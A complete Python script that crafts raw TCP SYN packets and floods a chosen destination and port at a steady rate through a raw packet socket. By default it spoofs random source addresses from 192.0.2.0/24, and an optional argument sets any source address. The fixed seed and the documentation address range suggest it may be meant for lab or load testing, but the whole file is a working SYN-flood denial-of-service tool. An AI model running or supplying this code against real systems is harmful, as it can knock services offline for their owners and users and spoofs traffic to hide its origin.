#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Sends TCP SYNs that nobody stands behind, at a steady rate, from a network interface.

usage: flood.py INTERFACE MAC DESTINATION PORT RATE SECONDS [SOURCE]   (without SOURCE: from random addresses of 192.0.2.0/24)
Prints how many were sent.
"""
import ipaddress
import random
import socket
import struct
import sys
import time

SEED = 1
BATCH = 20


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def syn(source, destination, source_port, port):
    addresses = source.packed + destination.packed
    tcp = bytearray(struct.pack("!HHIIBBHHH", source_port, port, random.getrandbits(32), 0, 5 << 4, 2, 1024, 0, 0))
    struct.pack_into("!H", tcp, 16, checksum(addresses + struct.pack("!HH", 6, len(tcp)) + tcp))
    ip = bytearray(struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0) + addresses)
    struct.pack_into("!H", ip, 10, checksum(ip))
    return bytes(ip + tcp)


def main():
    interface, mac, destination, port, rate, seconds, *source = sys.argv[1:]
    random.seed(SEED)
    destination = ipaddress.IPv4Address(destination)
    network = int(ipaddress.IPv4Address("192.0.2.0"))
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    wire.bind((interface, 0))
    header = bytes.fromhex(mac.replace(":", "")) + bytes(wire.getsockname()[4][:6]) + b"\x08\x00"
    sent, begin = 0, time.monotonic()
    while (elapsed := time.monotonic() - begin) < float(seconds):
        while sent < elapsed * float(rate):
            for _ in range(BATCH):
                client = ipaddress.IPv4Address(source[0]) if source else \
                    ipaddress.IPv4Address(network + random.randrange(1, 255))
                wire.send(header + syn(client, destination, random.randrange(1024, 65536), int(port)))
            sent += BATCH
        # What keeps the rate.
        time.sleep(BATCH / float(rate))
    print(sent)


if __name__ == "__main__":
    main()
